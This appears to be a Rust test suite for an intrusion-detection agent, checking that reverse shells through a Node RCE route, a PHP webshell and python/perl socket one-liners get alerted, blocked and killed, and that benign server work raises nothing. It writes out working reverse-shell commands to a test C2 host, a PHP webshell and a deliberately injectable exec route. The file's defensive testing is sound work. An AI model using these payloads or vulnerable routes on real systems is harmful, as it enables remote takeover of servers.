//! Detection that survives a real server: real software nobody here wrote, against the real
//! agent. Benign work — npm lifecycle scripts of a local package, `npm run`, a python3 admin
//! script running shell commands, a Node script running `git --version` while it does not
//! listen, nginx serving 2,000 requests, a cron-like `run-parts` loop — raises no alert and
//! opens no decision. The attacks — a reverse shell through the RCE route of a listening Node
//! server (via `exec`, and via `execFile` of a renamed copy of bash), a PHP webshell behind
//! nginx + php-fpm, python and perl socket reverse shells — are alerted and their C2 blocked, every
//! round. The C2 is the low-risk test host `DE4` (`geo` never fires for it: only `lineage` and
//! `reverse_shell` can give it a decision), in a network namespace of its own.
//!
//! Every server is started by the test with its own config in a temp dir, on loopback ports,
//! and killed (its whole process group) on drop. `REALWORLD_ROUNDS` (default 1) repeats each
//! scenario against the same agent; the issue's validation runs 20.

mod common;

use std::{
    collections::HashSet,
    fs,
    io::{BufRead, BufReader, Read, Write},
    net::TcpStream,
    os::unix::{fs::PermissionsExt, process::CommandExt},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use common::{
    Agent,
    netns::{DE4, TestNet},
    nft::Table,
    require_root, serial,
};
use serde_json::Value;

/// How long to wait for what the agent or a server does: generous, for a machine shared by
/// several engineers' builds and tests (a bound against hanging, not a speed target).
const WAIT: Duration = Duration::from_secs(60);

/// The C2's port on the test host.
const C2_PORT: u16 = 4444;
/// A C2 that never answers, for the kill test (its shell stays until killed).
const C2_SILENT_PORT: u16 = 4445;

fn rounds() -> usize {
    std::env::var("REALWORLD_ROUNDS")
        .ok()
        .and_then(|r| r.parse().ok())
        .filter(|&r| r > 0)
        .unwrap_or(1)
}

/// A process group the test started (a server and whatever it runs), killed on drop.
struct Group {
    child: Child,
    what: &'static str,
}

impl Group {
    fn spawn(what: &'static str, cmd: &mut Command) -> Group {
        let child = cmd
            .process_group(0)
            .spawn()
            .unwrap_or_else(|e| panic!("starting {what}: {e}"));
        Group { child, what }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Wait for the first line on stdout (servers print "ready").
    fn ready_line(&mut self) -> String {
        let out = self.child.stdout.take().expect("stdout piped");
        let mut line = String::new();
        BufReader::new(out).read_line(&mut line).unwrap();
        assert!(!line.is_empty(), "{} exited before it was ready", self.what);
        line
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        let pgid = nix::unistd::Pid::from_raw(self.child.id() as i32);
        let _ = nix::sys::signal::killpg(pgid, nix::sys::signal::Signal::SIGKILL);
        let _ = self.child.wait();
    }
}

/// A free loopback port, found without `listen()` (the test process itself must never
/// accept connections: every shell it starts would be below a "web server").
fn free_port() -> u16 {
    // SAFETY: plain socket calls on a local fd, closed before returning.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        assert!(fd >= 0);
        let mut addr: libc::sockaddr_in = std::mem::zeroed();
        addr.sin_family = libc::AF_INET as u16;
        addr.sin_addr.s_addr = u32::from_ne_bytes([127, 0, 0, 1]);
        let len = size_of::<libc::sockaddr_in>() as libc::socklen_t;
        assert_eq!(libc::bind(fd, (&raw const addr).cast(), len), 0);
        let mut got: libc::sockaddr_in = std::mem::zeroed();
        let mut got_len = len;
        libc::getsockname(fd, (&raw mut got).cast(), &mut got_len);
        libc::close(fd);
        u16::from_be(got.sin_port)
    }
}

/// Percent-encode a query value.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// One HTTP/1.0 GET on loopback; the response (status line first), or "" on failure.
fn http_get(port: u16, path: &str) -> String {
    let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) else {
        return String::new();
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
    let _ = write!(s, "GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n");
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    out
}

/// The first stored event of `kind` that satisfies `pred`, waiting up to [`WAIT`] (the
/// harness's `wait_for` allows 15 s, short on a loaded machine).
fn wait_event(agent: &Agent, kind: &str, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
    let mut found = None;
    wait_until(what, WAIT, || {
        found = agent.events(kind).into_iter().find(|e| pred(e));
        found.is_some()
    });
    found.unwrap_or_else(|| panic!("no {kind} event {what}:\n{}", agent.log()))
}

fn wait_until(what: &str, timeout: Duration, mut f: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if f() {
            return true;
        }
        thread::sleep(Duration::from_millis(100));
    }
    eprintln!("timed out: {what}");
    false
}

/// The C2 on the test host: accepts connections; `exit` mode tells each shell to exit.
fn c2(net: &TestNet, port: u16, exit: bool) -> Group {
    let script = "import socket, sys, threading\n\
        port, mode = int(sys.argv[1]), sys.argv[2]\n\
        s = socket.socket()\n\
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
        s.bind(('0.0.0.0', port)); s.listen(64)\n\
        print('ready', flush=True)\n\
        def serve(c):\n    try:\n        if mode == 'exit': c.sendall(b'exit\\n')\n        while c.recv(4096): pass\n    except OSError: pass\n    c.close()\n\
        while True:\n    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()\n";
    let mut g = Group::spawn(
        "the C2",
        Command::new("ip")
            .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c", script])
            .arg(port.to_string())
            .arg(if exit { "exit" } else { "hold" })
            .stdout(Stdio::piped()),
    );
    g.ready_line();
    g
}

/// The classic bash one-liner to the C2.
fn bash_reverse_shell() -> String {
    format!("bash -c 'bash -i >& /dev/tcp/{DE4}/{C2_PORT} 0>&1'")
}

/// A Node.js app with an RCE route (`/exec?c=`, `/execfile?f=&a=`), listening on `port`.
fn node_server(dir: &Path, port: u16) -> Group {
    let app = common::write(
        dir,
        "server.js",
        "const http = require('http'), cp = require('child_process');\n\
         http.createServer((req, res) => {\n\
           const u = new URL(req.url, 'http://x');\n\
           if (u.pathname === '/exec') cp.exec(u.searchParams.get('c'), () => {});\n\
           if (u.pathname === '/execfile')\n\
             cp.execFile(u.searchParams.get('f'), JSON.parse(u.searchParams.get('a')), () => {});\n\
           res.end('ok\\n');\n\
         }).listen(+process.argv[2], '127.0.0.1', () => console.log('ready'));\n",
    );
    let mut g = Group::spawn(
        "the Node server",
        Command::new("node")
            .arg(&app)
            .arg(port.to_string())
            .stdout(Stdio::piped()),
    );
    g.ready_line();
    g
}

/// nginx on `port` with its own config, serving `www` and passing `.php` to php-fpm on the
/// unix socket `php_sock` when given.
fn nginx(dir: &Path, port: u16, php_sock: Option<&Path>) -> Group {
    let www = dir.join("www");
    fs::create_dir_all(&www).unwrap();
    fs::create_dir_all(dir.join("nginx-tmp")).unwrap();
    fs::write(www.join("index.html"), "hello\n").unwrap();
    let php = php_sock.map_or(String::new(), |sock| {
        format!(
            "location ~ \\.php$ {{ include /etc/nginx/fastcgi_params; \
             fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; \
             fastcgi_pass unix:{}; }}",
            sock.display()
        )
    });
    let d = dir.display();
    let conf = common::write(
        dir,
        "nginx.conf",
        &format!(
            "user root; worker_processes 2; pid {d}/nginx.pid; error_log {d}/nginx-error.log;\n\
             events {{ worker_connections 256; }}\n\
             http {{ access_log off;\n\
               client_body_temp_path {d}/nginx-tmp/body; proxy_temp_path {d}/nginx-tmp/proxy;\n\
               fastcgi_temp_path {d}/nginx-tmp/fastcgi; uwsgi_temp_path {d}/nginx-tmp/uwsgi;\n\
               scgi_temp_path {d}/nginx-tmp/scgi;\n\
               server {{ listen 127.0.0.1:{port}; root {}; {php} }} }}\n",
            www.display()
        ),
    );
    let g = Group::spawn(
        "nginx",
        Command::new("nginx")
            .arg("-e")
            .arg(dir.join("nginx-error.log"))
            .arg("-c")
            .arg(&conf)
            .args(["-g", "daemon off;"]),
    );
    let up = wait_until("nginx answers", WAIT, || {
        http_get(port, "/index.html").starts_with("HTTP/1.1 200")
    });
    assert!(
        up,
        "nginx did not start: {}",
        fs::read_to_string(dir.join("nginx-error.log")).unwrap_or_default()
    );
    g
}

/// php-fpm (Debian's versioned binary) with one static pool on a unix socket.
fn php_fpm(dir: &Path) -> (Group, PathBuf) {
    let bin = fs::read_dir("/usr/sbin")
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("php-fpm"))
        })
        .expect("php-fpm is installed (scripts/setup.sh)");
    let sock = dir.join("php.sock");
    let d = dir.display();
    let conf = common::write(
        dir,
        "php-fpm.conf",
        &format!(
            "[global]\npid = {d}/php-fpm.pid\nerror_log = {d}/php-fpm.log\ndaemonize = no\n\
             [www]\nuser = root\ngroup = root\nlisten = {}\npm = static\npm.max_children = 2\n",
            sock.display()
        ),
    );
    let g = Group::spawn(
        "php-fpm",
        Command::new(bin)
            .args(["--nodaemonize", "--allow-to-run-as-root", "--fpm-config"])
            .arg(&conf),
    );
    assert!(
        wait_until("php-fpm socket", WAIT, || sock.exists()),
        "php-fpm did not start: {}",
        fs::read_to_string(dir.join("php-fpm.log")).unwrap_or_default()
    );
    (g, sock)
}

/// The agent for the attacks: short countdown, its own nftables table, one alert per round.
/// Colleagues' tests share this machine and this agent sees their processes too, so it acts
/// on nothing of theirs: every test address but the C2's network is trusted (never blocked),
/// and with `kill` only `reverse_shell` (which nothing else triggers) can kill — `lineage`
/// knows no web server and `resource` cannot fire.
fn attack_agent(table: &Table, kill: bool) -> Agent {
    let confine = if kill {
        "[lineage]\nweb_servers = []\ninterpreters = []\nany_listener = false\n\
         [resource]\ncpu_percent = 100000\nbaseline_deviation = 100\n"
    } else {
        ""
    };
    Agent::start_with(
        "",
        &format!(
            "[trust]\nips = [\"198.51.100.0/25\", \"198.51.100.192/26\", \"2001:db8::/32\"]\n\
             [switch]\ncountdown = \"2s\"\n[alerts]\ndedup_window = \"1s\"\n{confine}\
             [enforce]\ntable = \"{}\"\nconnect_guard = false\nkill = {kill}\nkill_grace = \"1s\"\n",
            table.0
        ),
    )
}

fn our_alerts(agent: &Agent) -> Vec<Value> {
    agent.our_alerts()
}

fn ids(events: &[Value]) -> HashSet<String> {
    events
        .iter()
        .filter_map(|e| e["id"].as_str().map(String::from))
        .collect()
}

fn blocked(table: &Table) -> bool {
    table.elements("block4").iter().any(|(a, _)| a == DE4)
}

/// One attack round: `attack` runs it; then the expected anomalies must be alerted and a
/// decision of theirs must block the C2. Returns what went wrong, if anything; whatever
/// happened, leaves the C2 unblocked for the next round.
fn attack_round(
    agent: &Agent,
    table: &Table,
    expected: &[&str],
    attack: impl FnOnce(),
) -> Result<(), String> {
    let before = ids(&agent.events("alert"));
    attack();
    let outcome = judge_round(agent, table, expected, &before);
    // Every decision of the round ends (auto-blocked), then the C2 is unblocked again.
    let settled = wait_until("no pending decision", WAIT, || {
        !agent.json_lines(&["pending", "--json"]).iter().any(|p| {
            p["target_ip"] == DE4 && !before.contains(p["id"].as_str().unwrap_or_default())
        })
    });
    let out = agent.cli(&["unblock", DE4]);
    let reset = settled
        && (out.status.success() || !blocked(table))
        && wait_until("C2 unblocked", WAIT, || !blocked(table));
    match (outcome, reset) {
        (Ok(()), true) => Ok(()),
        (Ok(()), false) => Err(format!(
            "could not reset: settled {settled}, unblock: {}",
            String::from_utf8_lossy(&out.stderr)
        )),
        (Err(e), _) => Err(e),
    }
}

/// Whether the round's alerts and block are there.
fn judge_round(
    agent: &Agent,
    table: &Table,
    expected: &[&str],
    before: &HashSet<String>,
) -> Result<(), String> {
    let new_alerts = || -> Vec<Value> {
        our_alerts(agent)
            .into_iter()
            .filter(|a| !before.contains(a["id"].as_str().unwrap_or_default()))
            .collect()
    };
    let seen = |a: &[Value]| -> HashSet<String> {
        a.iter()
            .filter_map(|x| x["anomaly"].as_str().map(String::from))
            .collect()
    };
    let all = wait_until("expected alerts", WAIT, || {
        let s = seen(&new_alerts());
        expected.iter().all(|e| s.contains(*e))
    });
    let alerts = new_alerts();
    if !all {
        return Err(format!("alerts: expected {expected:?}, got {alerts:?}"));
    }
    let unexpected: Vec<&Value> = alerts
        .iter()
        .filter(|a| !expected.contains(&a["anomaly"].as_str().unwrap_or_default()))
        .collect();
    if !unexpected.is_empty() {
        return Err(format!("unexpected alerts: {unexpected:?}"));
    }
    let mine = ids(&alerts);
    let decided = wait_until("the C2 blocked", WAIT, || {
        agent.events("decision").iter().any(|d| {
            d["target_ip"] == DE4
                && mine.contains(d["id"].as_str().unwrap_or_default())
                && matches!(d["state"].as_str(), Some("auto-blocked" | "blocked"))
        }) && blocked(table)
    });
    if !decided {
        return Err(format!(
            "no decision blocked {DE4}: alerts {alerts:?}, decisions {:?}",
            agent.events("decision")
        ));
    }
    Ok(())
}

/// Run `rounds()` rounds of one attack; every round must be detected and blocked.
fn attack_rounds(
    name: &str,
    agent: &Agent,
    table: &Table,
    expected: &[&str],
    attack: impl Fn(usize),
) {
    let n = rounds();
    let mut failures = Vec::new();
    for round in 0..n {
        if let Err(e) = attack_round(agent, table, expected, || attack(round)) {
            eprintln!("{name} round {round}: {e}");
            failures.push(round);
        }
    }
    eprintln!(
        "REALWORLD {name}: detected and blocked {}/{n} rounds",
        n - failures.len()
    );
    assert!(
        failures.is_empty(),
        "{name}: rounds {failures:?} failed\n{}",
        agent.log()
    );
}

#[test]
fn node_rce_reverse_shells_are_alerted_and_their_c2_blocked() {
    if !require_root("node_rce_reverse_shells_are_alerted_and_their_c2_blocked") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("rwn");
    let table = Table::new("rwnode");
    let _c2 = c2(&net, C2_PORT, true);
    let agent = attack_agent(&table, false);
    let port = free_port();
    let _server = node_server(agent.dir.path(), port);

    // Through `exec` (`/bin/sh -c`), the classic bash one-liner.
    attack_rounds(
        "node exec",
        &agent,
        &table,
        &["lineage", "reverse_shell"],
        |_| {
            http_get(port, &format!("/exec?c={}", enc(&bash_reverse_shell())));
        },
    );

    // Through `execFile` of bash copied to /tmp under another name: no `sh -c`, no shell name.
    let kworker = tempfile::Builder::new()
        .prefix("kworker")
        .tempfile_in("/tmp")
        .unwrap()
        .into_temp_path();
    fs::copy("/bin/bash", &kworker).unwrap();
    fs::set_permissions(&kworker, fs::Permissions::from_mode(0o755)).unwrap();
    let args = serde_json::json!([
        "-c",
        format!("exec 5<>/dev/tcp/{DE4}/{C2_PORT}; exec 0<&5 1>&5 2>&5; read -r x")
    ])
    .to_string();
    attack_rounds(
        "node execFile renamed bash",
        &agent,
        &table,
        // A shell binary copied to /tmp is also a `miner` suspect by location (high, never a
        // kill on its own): three signals on one attack.
        &["lineage", "reverse_shell", "miner"],
        |_| {
            let f = kworker.to_str().unwrap();
            http_get(port, &format!("/execfile?f={}&a={}", enc(f), enc(&args)));
        },
    );
    let lineage = wait_event(&agent, "alert", "lineage on the renamed bash", |a| {
        a["anomaly"] == "lineage" && a["exe"].as_str() == kworker.to_str()
    });
    assert!(
        lineage["detail"]
            .as_str()
            .unwrap()
            .contains("accepts connections"),
        "{lineage}"
    );
}

#[test]
fn php_webshell_behind_nginx_and_php_fpm_is_alerted_and_its_c2_blocked() {
    if !require_root("php_webshell_behind_nginx_and_php_fpm_is_alerted_and_its_c2_blocked") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("rwp");
    let table = Table::new("rwphp");
    let _c2 = c2(&net, C2_PORT, true);
    let agent = attack_agent(&table, false);
    let dir = agent.dir.path();
    let (_fpm, sock) = php_fpm(dir);
    let port = free_port();
    let _nginx = nginx(dir, port, Some(&sock));
    fs::write(dir.join("www/shell.php"), "<?php system($_GET['c']); ?>\n").unwrap();
    attack_rounds(
        "php webshell",
        &agent,
        &table,
        &["lineage", "reverse_shell"],
        |_| {
            http_get(
                port,
                &format!("/shell.php?c={}", enc(&bash_reverse_shell())),
            );
        },
    );
    let alert = wait_event(&agent, "alert", "lineage below php-fpm", |a| {
        a["anomaly"] == "lineage" && a["detail"].as_str().unwrap_or("").contains("php-fpm")
    });
    eprintln!("{alert}");
}

/// The python one-liner: `socket` + `dup2` onto 0, 1, 2, then `/bin/sh -i`.
fn python_reverse_shell(port: u16) -> Command {
    let mut cmd = Command::new("/usr/bin/python3");
    cmd.arg("-c").arg(format!(
        "import socket, os, subprocess\n\
         s = socket.socket(); s.connect(('{DE4}', {port}))\n\
         for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\n\
         subprocess.call(['/bin/sh', '-i'])\n"
    ));
    cmd.stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    cmd
}

#[test]
fn python_and_perl_socket_reverse_shells_are_alerted_and_their_c2_blocked() {
    if !require_root("python_and_perl_socket_reverse_shells_are_alerted_and_their_c2_blocked") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("rwy");
    let table = Table::new("rwpy");
    let _c2 = c2(&net, C2_PORT, true);
    let agent = attack_agent(&table, false);
    attack_rounds(
        "python reverse shell",
        &agent,
        &table,
        &["reverse_shell"],
        |_| {
            let mut shell = Group::spawn("python", &mut python_reverse_shell(C2_PORT));
            let done = wait_until("python shell exits", WAIT, || {
                shell.child.try_wait().ok().flatten().is_some()
            });
            assert!(done);
        },
    );
    // The perl one-liner: `open(STDIN, ">&S")` and friends, then `exec /bin/sh -i`.
    attack_rounds(
        "perl reverse shell",
        &agent,
        &table,
        &["reverse_shell"],
        |_| {
            let script = format!(
                "use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')); \
                 connect(S, sockaddr_in({C2_PORT}, inet_aton('{DE4}'))) or die; \
                 open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');"
            );
            let mut cmd = Command::new("perl");
            cmd.args(["-e", &script]).stdin(Stdio::null());
            let mut shell = Group::spawn("perl", &mut cmd);
            let done = wait_until("perl shell exits", WAIT, || {
                shell.child.try_wait().ok().flatten().is_some()
            });
            assert!(done);
        },
    );
    let alert = wait_event(&agent, "alert", "reverse_shell of python3", |a| {
        a["anomaly"] == "reverse_shell" && a["comm"] == "python3"
    });
    assert_eq!(alert["severity"], "critical", "{alert}");
    assert_eq!(alert["mitre"]["technique"], "T1059", "{alert}");
    assert_eq!(alert["target_ip"], DE4, "{alert}");
    assert_eq!(alert["comm"], "python3", "{alert}");
}

/// inetd's way of serving: each accepted connection becomes a child's stdin and stdout. That
/// child's stdio is a TCP socket to an untrusted peer, as a reverse shell's is, but nothing
/// here connected out to that peer: the agent sees the socket and raises nothing. A python
/// reverse shell in the same run is alerted, and since records are handled in order, its
/// alert also says the server's were handled by then.
#[test]
fn an_accepted_connection_on_stdio_is_a_server_not_a_reverse_shell() {
    if !require_root("an_accepted_connection_on_stdio_is_a_server_not_a_reverse_shell") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("rwi");
    let table = Table::new("rwinetd");
    let _c2 = c2(&net, C2_PORT, true);
    let agent = attack_agent(&table, false);
    // This side of the DE test network; the clients connect from DE4.
    let (addr, port) = ("198.51.100.129", free_port());
    let server = "import socket, subprocess, sys\n\
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
        s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8)\n\
        print('ready', flush=True)\n\
        while True:\n    c, _ = s.accept()\n    \
        subprocess.Popen(['/bin/cat'], stdin=c, stdout=c, stderr=subprocess.DEVNULL)\n    \
        c.close()\n";
    let mut inetd = Group::spawn(
        "the inetd-style server",
        Command::new("/usr/bin/python3")
            .args(["-c", server, addr, &port.to_string()])
            .stdin(Stdio::null())
            .stdout(Stdio::piped()),
    );
    inetd.ready_line();
    let client = "import socket, sys\n\
        for _ in range(3):\n    \
        c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)\n    \
        c.sendall(b'ping\\n'); assert c.recv(5) == b'ping\\n'; c.close()\n";
    let out = Command::new("ip")
        .args([
            "netns",
            "exec",
            net.ns(),
            "/usr/bin/python3",
            "-c",
            client,
            addr,
        ])
        .arg(port.to_string())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let mut shell = Group::spawn("python", &mut python_reverse_shell(C2_PORT));
    let alert = wait_event(&agent, "alert", "reverse_shell of python3", |a| {
        a["anomaly"] == "reverse_shell" && a["comm"] == "python3"
    });
    let _ = shell.child.wait();
    assert_eq!(alert["target_ip"], DE4, "{alert}");
    // The server's children put the socket on stdio between fork and exec (as python3).
    let log = agent.log();
    let served: HashSet<String> = log
        .lines()
        .filter(|l| l.contains("accepted connection on stdio") && l.contains(DE4))
        .filter_map(|l| l.split(" pid=").nth(1)?.split(' ').next().map(String::from))
        .collect();
    assert!(
        served.len() >= 3,
        "the server's children were not seen:\n{log}"
    );
    let wrong: Vec<Value> = agent
        .events("alert")
        .into_iter()
        .filter(|a| served.contains(&a["pid"].to_string()))
        .collect();
    assert!(
        wrong.is_empty(),
        "a served connection was taken for a reverse shell: {wrong:?}"
    );
}

#[test]
fn a_reverse_shell_is_killed_with_enforce_kill() {
    if !require_root("a_reverse_shell_is_killed_with_enforce_kill") {
        return;
    }
    let _serial = serial();
    // Orphans of what this test starts come back to it, never to anything else's init.
    // SAFETY: prctl with integer arguments.
    unsafe { libc::prctl(libc::PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) };
    let net = TestNet::new("rwk");
    let table = Table::new("rwkill");
    let _c2 = c2(&net, C2_SILENT_PORT, false);
    let agent = attack_agent(&table, true);
    // The C2 never answers: each shell lives until the agent kills it.
    let survived = std::cell::Cell::new(0);
    attack_rounds(
        "reverse shell killed",
        &agent,
        &table,
        &["reverse_shell"],
        |_| {
            // Each shell under a parent of its own: the same program killed twice under one
            // parent is a respawn, and the killer would go for the parent (this test's tree).
            let python = python_reverse_shell(C2_SILENT_PORT);
            let line = std::iter::once(python.get_program())
                .chain(python.get_args())
                .map(|a| format!("'{}'", a.to_str().unwrap().replace('\'', "'\\''")))
                .collect::<Vec<_>>()
                .join(" ");
            let mut wrapper = Command::new("/bin/sh");
            wrapper
                .args(["-c", &format!("{line}; true")])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null());
            let mut shell = Group::spawn("python below sh", &mut wrapper);
            let killed = wait_until("the shell killed", WAIT, || {
                shell.child.try_wait().ok().flatten().is_some()
            });
            if !killed {
                eprintln!("the reverse shell {} survived", shell.pid());
                survived.set(survived.get() + 1);
            }
        },
    );
    assert_eq!(survived.get(), 0, "{}", agent.log());
    let kills = agent.status()["kills"].as_u64().unwrap();
    assert!(kills >= rounds() as u64, "{kills} kills");
}

/// A local npm package with lifecycle scripts, packed and installed offline, then `npm run`.
fn npm_work(dir: &Path) {
    let fixture = dir.join("fixture");
    let app = dir.join("app");
    fs::create_dir_all(&fixture).unwrap();
    fs::create_dir_all(&app).unwrap();
    fs::write(
        fixture.join("package.json"),
        r#"{"name": "rw-fixture", "version": "1.0.0",
            "scripts": {"preinstall": "echo preinstall && uname -s",
                        "install": "node -e \"require('fs').writeFileSync('built.txt', 'ok')\"",
                        "postinstall": "sh -c 'ls . >/dev/null && echo postinstall'"}}"#,
    )
    .unwrap();
    fs::write(
        app.join("package.json"),
        r#"{"name": "rw-app", "version": "1.0.0", "private": true,
            "scripts": {"postinstall": "echo app-postinstall", "build": "sh -c 'echo build && date'"}}"#,
    )
    .unwrap();
    let npm = |cwd: &Path, args: &[&str]| {
        let out = Command::new("npm")
            .args(args)
            .current_dir(cwd)
            .env("npm_config_cache", dir.join("npm-cache"))
            .env("npm_config_update_notifier", "false")
            .env("npm_config_audit", "false")
            .env("npm_config_fund", "false")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "npm {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    npm(
        &fixture,
        &["pack", "--pack-destination", dir.to_str().unwrap()],
    );
    let out = npm(
        &app,
        &[
            "install",
            "--offline",
            "--foreground-scripts",
            dir.join("rw-fixture-1.0.0.tgz").to_str().unwrap(),
        ],
    );
    assert!(
        out.contains("postinstall"),
        "lifecycle scripts did not run: {out}"
    );
    npm(&app, &["run", "build"]);
}

fn run_ok(cmd: &mut Command) {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn benign_server_work_raises_nothing() {
    if !require_root("benign_server_work_raises_nothing") {
        return;
    }
    let _serial = serial();
    // Dry-run: colleagues' tests run on this machine too, and this agent sees (and would
    // decide on) their processes; it must not block their test hosts.
    let agent = Agent::start_with(
        "",
        "[switch]\ncountdown = \"2s\"\n[alerts]\ndedup_window = \"1s\"\n",
    );
    let dir = agent.dir.path().to_path_buf();
    let port = free_port();
    let _nginx = nginx(&dir.join("nginx"), port, None);
    let parts = dir.join("cron.daily");
    fs::create_dir_all(&parts).unwrap();
    for (name, body) in [
        (
            "10-logs",
            "#!/bin/sh\nfind /tmp -maxdepth 1 -name 'nothing-*' | wc -l >/dev/null\n",
        ),
        (
            "20-report",
            "#!/bin/bash\nuptime >/dev/null; df -h / | tail -1 >/dev/null\n",
        ),
    ] {
        let p = common::write(&parts, name, body);
        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let n = rounds();
    let mut false_alerts = 0;
    for round in 0..n {
        let before = our_alerts(&agent).len();
        let work = dir.join(format!("round{round}"));
        fs::create_dir_all(&work).unwrap();
        npm_work(&work);
        // A python3 admin script running shell commands.
        run_ok(Command::new("/usr/bin/python3").arg("-c").arg(
            "import os, subprocess\n\
             subprocess.run('apt-get --version', shell=True, check=True, stdout=subprocess.DEVNULL)\n\
             subprocess.run(['sh', '-c', 'uname -a; id'], check=True, stdout=subprocess.DEVNULL)\n\
             assert os.system('ls /etc > /dev/null') == 0\n",
        ));
        // A Node script (a deploy hook) running git through `exec`, not listening.
        run_ok(Command::new("node").arg("-e").arg(
            "require('child_process').exec('git --version', (e, out) => { \
               if (e) { console.error(e); process.exit(1); } process.stdout.write(out); })",
        ));
        // nginx serving 2,000 requests.
        let ok = (0..2000)
            .filter(|_| http_get(port, "/index.html").starts_with("HTTP/1.1 200"))
            .count();
        assert_eq!(ok, 2000, "nginx answered {ok} of 2000 requests");
        // A cron-like run-parts loop.
        run_ok(Command::new("/bin/bash").arg("-c").arg(format!(
            "for f in {}/*; do [ -x \"$f\" ] && \"$f\"; done",
            parts.display()
        )));
        thread::sleep(Duration::from_secs(1)); // let the agent drain its ring
        let after = our_alerts(&agent).len();
        false_alerts += after - before;
        eprintln!("benign round {round}: {} new alerts", after - before);
    }
    eprintln!("REALWORLD benign: {false_alerts} false alerts in {n} rounds");
    // The work was seen (so "nothing raised" means something): apt-get below python3, the
    // npm lifecycle shell, git below node.
    wait_event(&agent, "exec", "apt-get below python3", |e| {
        e["comm"] == "apt-get"
            && e["ancestors"].as_array().is_some_and(|a| {
                a.iter()
                    .any(|c| c.as_str().is_some_and(|c| c.starts_with("python3")))
            })
    });
    wait_event(&agent, "exec", "git below node", |e| {
        e["comm"] == "git"
            && e["ancestors"]
                .as_array()
                .is_some_and(|a| a.iter().any(|c| c == "node"))
    });
    wait_event(&agent, "exec", "an npm lifecycle shell", |e| {
        e["comm"] == "sh"
            && e["argv"].as_array().is_some_and(|a| {
                a.iter()
                    .any(|x| x.as_str().unwrap_or("").contains("postinstall"))
            })
    });
    // No alert on our processes, hence no decision of ours (a decision is an alert's).
    let alerts = our_alerts(&agent);
    let ids = ids(&alerts);
    let decisions: Vec<Value> = agent
        .events("decision")
        .into_iter()
        .filter(|d| ids.contains(d["id"].as_str().unwrap_or_default()))
        .collect();
    assert!(
        alerts.is_empty() && decisions.is_empty(),
        "benign work raised alerts {alerts:?} / decisions {decisions:?}"
    );
}

#[test]
fn a_connect_is_credited_to_the_program_that_made_it() {
    if !require_root("a_connect_is_credited_to_the_program_that_made_it") {
        return;
    }
    let _serial = serial();
    let agent = Agent::start("");
    // Something to connect to on loopback (a sibling process: the test itself never listens).
    let port = free_port();
    let mut listener = Group::spawn(
        "a listener",
        Command::new("/usr/bin/python3")
            .arg("-c")
            .arg(
                "import socket, sys\n\
                 s = socket.socket(); s.bind(('127.0.0.1', int(sys.argv[1]))); s.listen(64)\n\
                 print('ready', flush=True)\n\
                 while True: s.accept()\n",
            )
            .arg(port.to_string())
            .stdout(Stdio::piped()),
    );
    listener.ready_line();
    let n = rounds();
    let mut credited = 0;
    for round in 0..n {
        // bash connects, then runs its last command in place: `sleep` replaces bash.
        let child = Command::new("/bin/bash")
            .arg("-c")
            .arg(format!("exec 3<>/dev/tcp/127.0.0.1/{port}; sleep 0.2"))
            .spawn()
            .unwrap();
        let pid = child.id();
        assert!(child.wait_with_output().unwrap().status.success());
        let connect = wait_event(&agent, "connect", "of the bash round", |c| {
            c["pid"] == pid && c["dport"] == port
        });
        let sleep = wait_event(&agent, "exec", "sleep in place of bash", |e| {
            e["pid"] == pid && e["comm"] == "sleep"
        });
        let ts = |v: &Value| humantime::parse_rfc3339(v["ts"].as_str().unwrap()).unwrap();
        if connect["comm"] == "bash" && ts(&connect) <= ts(&sleep) {
            credited += 1;
        } else {
            eprintln!("round {round}: {connect} / {sleep}");
        }
    }
    eprintln!("REALWORLD connect credited to bash: {credited}/{n}");
    assert_eq!(credited, n);
}
